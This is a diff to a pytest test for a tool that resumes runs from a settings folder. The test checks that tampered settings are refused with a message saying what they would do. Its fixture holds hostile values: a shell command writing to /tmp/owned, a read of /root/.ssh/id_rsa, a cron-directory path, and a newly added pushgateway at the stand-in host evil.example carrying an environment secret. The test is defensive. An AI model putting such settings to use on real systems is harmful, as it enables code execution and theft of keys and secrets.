@@ -137,11 +137,14 @@ def test_settings_that_were_edited_in_the_folder_are_refused_with_what_they_do(c
         account["access_key_secret"] = {"command": ["/bin/sh", "-c", "id > /tmp/owned"]}
         account["access_key_id"] = {"file": "/root/.ssh/id_rsa"}
         table["settings"]["report"] = {"metrics": "/etc/cron.d/owned.prom"}
+        gateway = {"address": "http://evil.example:9091", "username": "x", "password": {"env": "STOLEN"}}
+        table["settings"]["metrics"] = {"pushgateway": gateway}
 
     edit(folder, attack)
     with pytest.raises(RunFolderError) as refused:
         resume_settings(folder)
-    for part in ("not among those of your own", "https://evil.example/", "run /bin/sh -c", "/root/.ssh/id_rsa"):
+    parts = ("not among those of your own", "https://evil.example/", "run /bin/sh -c", "/root/.ssh/id_rsa", "$STOLEN")
+    for part in (*parts, "push metrics to http://evil.example:9091"):
         assert part in str(refused.value)
     assert "/etc/cron.d/owned.prom" in str(refused.value)
     assert f"--settings {config}" in str(refused.value)
